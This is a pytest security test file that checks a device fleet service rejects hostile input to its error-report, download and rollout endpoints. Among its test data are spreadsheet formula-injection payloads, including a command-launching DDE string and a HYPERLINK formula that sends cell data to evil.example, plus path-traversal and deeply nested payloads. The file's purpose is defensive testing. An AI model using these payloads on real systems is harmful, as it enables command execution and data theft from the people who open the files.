"""Red-team probes of issue 8 (error reports, buckets, downloads): each test is an attack that must fail."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
from typing import Any

import httpx
import pytest
from error_world import COSE, ENDPOINT, batch, crash
from fastapi import FastAPI
from fleet_world import APP_COMPONENT, FakePublisher, Fleet, StatusDevice, make_status_device
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker
from test_rollouts import install

from bastion.crypto.certs import certificate_der
from bastion.crypto.cose import sign1
from bastion.service.config import Settings
from bastion.service.models import Device, DeviceReleaseActivity, ErrorBucket, ErrorEvent
from bastion.service.rollouts.gate import evaluate_due
from bastion.service.rollouts.health import default_health
from bastion.service.tenants.service import CreatedTenant
from conftest import FakeClock, TestClient, bearer


@pytest.fixture
def device(
    tenant: CreatedTenant, session_factory: sessionmaker[Session], master_key: bytes, clock: FakeClock
) -> StatusDevice:
    return make_status_device(session_factory, owner_tenant=tenant.tenant_id, master_key=master_key, now=clock())


def _send(client: TestClient, body: bytes) -> int:
    return int(client.post(ENDPOINT, content=body, headers=COSE).status_code)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_download_neutralises_formula_cells(
    client: TestClient, device: StatusDevice, tenant: CreatedTenant, clock: FakeClock, start: str
) -> None:
    """A hostile device's text must not become a spreadsheet formula in the operator's CSV."""
    now = clock()
    record = crash(now, component=f"{start}cmd|' /C calc'!A0", version=f"{start}1+1")
    record["description"] = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    body = batch(device, iat=now, records=[record], os_version=f"{start}2+2")
    assert _send(client, body) == 200
    r = client.get("/api/v1/error-reports/download?format=csv", headers=bearer(tenant.admin_token))
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text)))
    assert len(rows) == 2
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), rows[1]
    # The JSON form carries the device's text as it was sent.
    j = client.get("/api/v1/error-reports/download?format=json", headers=bearer(tenant.admin_token)).json()
    assert j[0]["Description"] == record["description"]


def test_a_device_cannot_report_from_another_group(
    client: TestClient, device: StatusDevice, session_factory: sessionmaker[Session], clock: FakeClock
) -> None:
    """The group is the service's record of the device, not the device's claim (fleet health, rollout baselines)."""
    now = clock()
    body = batch(device, iat=now, records=[crash(now)], override={"group_id": "some-other-group"})
    assert _send(client, body) == 200
    with session_factory() as session:
        groups = {e.group_id for e in session.scalars(select(ErrorEvent))}
        groups |= {a.group_id for a in session.scalars(select(DeviceReleaseActivity))}
    assert groups <= {None}, groups


@pytest.mark.parametrize("times", [(0, 0), (0, 2**37), (2**37, 2**37)])
def test_record_times_are_held_within_the_batch_window(
    client: TestClient,
    device: StatusDevice,
    session_factory: sessionmaker[Session],
    clock: FakeClock,
    times: tuple[int, int],
) -> None:
    """A record may not claim 1970 or the year 6325: it would pin its bucket's times and a crash in every window."""
    now = clock()
    record = crash(now)
    record["first_at"], record["last_at"] = times
    r = client.post(ENDPOINT, content=batch(device, iat=now, records=[record]), headers=COSE)
    assert r.status_code == 200, r.text
    low, high = now - dt.timedelta(days=30), now + dt.timedelta(minutes=10)
    with session_factory() as session:
        (bucket,) = session.scalars(select(ErrorBucket)).all()
        (event,) = session.scalars(select(ErrorEvent)).all()
        for when in (bucket.first_seen, bucket.last_seen, event.first_at, event.last_at):
            assert low <= when <= high, when


@pytest.mark.parametrize(
    "query",
    [
        "since=0001-01-01T00:00:00%2B01:00",
        "since=9999-12-31T23:59:59-01:00",
        "until=0001-01-01T00:00:00%2B01:00",
    ],
)
def test_extreme_times_in_queries_are_not_5xx(client: TestClient, tenant: CreatedTenant, query: str) -> None:
    for path in ("/api/v1/error-reports/buckets", "/api/v1/error-reports/download"):
        r = client.get(f"{path}?{query}", headers=bearer(tenant.admin_token))
        assert r.status_code < 500, (path, query, r.status_code, r.text)


def test_a_device_outside_the_stage_cannot_halt_a_rollout_with_a_new_bucket(  # noqa: PLR0917 - pytest fixtures
    client: TestClient,
    app: FastAPI,
    tenant: CreatedTenant,
    session_factory: sessionmaker[Session],
    settings: Settings,
    master_key: bytes,
    clock: FakeClock,
) -> None:
    """A tenant device outside the stage (another group, or none) reports a novel crash of the staged release."""
    publisher = FakePublisher()
    app.state.tuf_publisher = publisher
    fleet = Fleet(client, tenant.admin_token, session_factory)
    group = fleet.groups["Production"]
    devices = [
        make_status_device(session_factory, owner_tenant=tenant.tenant_id, master_key=master_key, now=clock())
        for _ in range(6)
    ]
    outsider = make_status_device(session_factory, owner_tenant=tenant.tenant_id, master_key=master_key, now=clock())
    with session_factory() as session:
        for d in devices:
            row = session.get(Device, d.device_id)
            assert row is not None
            row.group_id = group
        session.commit()
    v1, v2 = fleet.app("1.0.0"), fleet.app("2.0.0")
    fleet.deploy(group, str(v1["id"]))
    body = {
        "group": group,
        "images": [str(v2["id"])],
        "rollout": {"stages": [100], "soak_seconds": 60, "halt": {"min_sample": 1}},
    }
    created = fleet.call("POST", "/deployments", json=body).json()
    clock.advance(dt.timedelta(seconds=10))
    ids = [d.device_id for d in devices]
    install(session_factory, tenant.tenant_id, ids, "2.0.0", clock())
    for d in devices:
        r = client.post(ENDPOINT, content=batch(d, iat=clock(), installed=[(APP_COMPONENT, "2.0.0")]), headers=COSE)
        assert r.status_code == 200, r.text
    attack = batch(
        outsider,
        iat=clock(),
        installed=[(APP_COMPONENT, "2.0.0")],
        records=[crash(clock(), component=APP_COMPONENT, version="2.0.0", exception="Sabotage")],
    )
    assert _send(client, attack) == 200
    outcomes = evaluate_due(session_factory, settings, now=clock(), publisher=publisher, health=default_health())
    assert outcomes[created["rollout"]["id"]].action == "soaking"
    # A stage member's new crash still halts it.
    own = batch(
        devices[0],
        iat=clock(),
        installed=[(APP_COMPONENT, "2.0.0")],
        records=[crash(clock(), component=APP_COMPONENT, version="2.0.0", exception="RealBug")],
    )
    assert _send(client, own) == 200
    outcomes = evaluate_due(session_factory, settings, now=clock(), publisher=publisher, health=default_health())
    assert outcomes[created["rollout"]["id"]].action == "halted"


def test_deeply_nested_cbor_is_a_400(client: TestClient, device: StatusDevice, clock: FakeClock) -> None:
    """An authentic device's payload nested 20 000 deep (fits in 64 KiB) is malformed, not a crash of the decoder."""
    now = clock()
    payload = b"\x81" * 20_000 + b"\x00"
    body = sign1(payload, device.key, x5chain=[certificate_der(device.cert)])
    r = client.post(ENDPOINT, content=body, headers=COSE)
    assert r.status_code == 400, r.text
    logs = client.post("/api/v1/device/logs", content=body, headers=COSE)
    assert logs.status_code == 400, logs.text
    nested = b"\x81" * 20_000 + b"\x00"
    assert client.post(ENDPOINT, content=nested, headers=COSE).status_code == 400
    assert now


@pytest.mark.parametrize(
    "raw",
    [
        '["0001-01-01T00:00:00+01:00", "x"]',
        '["9999-12-31T23:59:59-01:00", "x"]',
        '{"a": 1, "b": 2}',
        '["2026-01-01T00:00:00+00:00", 5]',
        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]",
    ],
)
def test_tampered_cursors_are_a_400(client: TestClient, tenant: CreatedTenant, raw: str) -> None:
    cursor = base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")
    r = client.get("/api/v1/error-reports/buckets", params={"cursor": cursor}, headers=bearer(tenant.admin_token))
    assert r.status_code == 400, r.text


def test_bad_input_on_a_live_server_is_never_5xx(
    live_url: str, tenant: CreatedTenant, device: StatusDevice, clock: FakeClock
) -> None:
    """A real uvicorn on a loopback port: the new paths answer bad input with 4xx, never 5xx."""
    auth = bearer(tenant.admin_token)
    now = clock()
    cert = [certificate_der(device.cert)]
    probes: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", "/api/v1/device/error-reports", {"content": b"\x00" * 70_000, "headers": COSE}),
        ("POST", "/api/v1/device/error-reports", {"content": b"", "headers": COSE}),
        ("POST", "/api/v1/device/error-reports", {"content": b"{}", "headers": {"Content-Type": "application/json"}}),
        ("POST", "/api/v1/device/logs", {"content": b"\xff" * 2_000_000, "headers": COSE}),
        ("POST", "/api/v1/device/logs", {"content": sign1(b"\xa0", device.key, x5chain=cert), "headers": COSE}),
        (
            "POST",
            "/api/v1/device/error-reports",
            {"content": batch(device, iat=now, override={"records": [{"x": 1}] * 10}), "headers": COSE},
        ),
        ("GET", "/api/v1/error-reports/buckets/" + "b" * 5000, {"headers": auth}),
        ("POST", "/api/v1/error-reports/buckets/%00/resolve", {"headers": auth}),
        ("GET", "/api/v1/error-reports/buckets?limit=0", {"headers": auth}),
        ("GET", "/api/v1/error-reports/buckets?cursor=%%%", {"headers": auth}),
        ("GET", "/api/v1/error-reports/download?since=x", {"headers": auth}),
        ("GET", "/api/v1/fleet/health?window=99999999d", {"headers": auth}),
        ("GET", "/api/v1/fleet/health?by=nope", {"headers": auth}),
        (
            "POST",
            f"/api/v1/devices/{device.device_id}/log-requests",
            {"json": {"component_id": "../x"}, "headers": auth},
        ),
        (
            "POST",
            f"/api/v1/devices/{device.device_id}/log-requests",
            {"json": {"component_id": "app1", "max_bytes": 10**30}, "headers": auth},
        ),
        ("GET", f"/api/v1/devices/{device.device_id}/log-requests/" + "%2e%2e", {"headers": auth}),
        ("GET", "/api/v1/devices/" + "f" * 64 + "/log-requests", {"headers": auth}),
        ("POST", "/api/v1/rollouts/99999999999999999999999/resume", {"headers": auth}),
        ("POST", "/api/v1/rollouts/-1/abort", {"headers": auth}),
        (
            "POST",
            "/api/v1/deployments",
            {
                "content": b'{"group": "x", "images": [], "rollout": {"stages": [NaN]}}',
                "headers": auth | {"Content-Type": "application/json"},
            },
        ),
        ("POST", "/api/v1/os-blocklist-clears", {"json": {"group": "x" * 10_000, "image": "y"}, "headers": auth}),
        ("GET", "/api/v1/os-blocklist-clears?group=nope", {"headers": auth}),
    ]
    with httpx.Client(base_url=live_url, timeout=30) as http:
        for method, path, kw in probes:
            r = http.request(method, path, **kw)
            assert r.status_code < 500, (method, path, r.status_code, r.text[:300])
            assert tenant.admin_token not in r.text
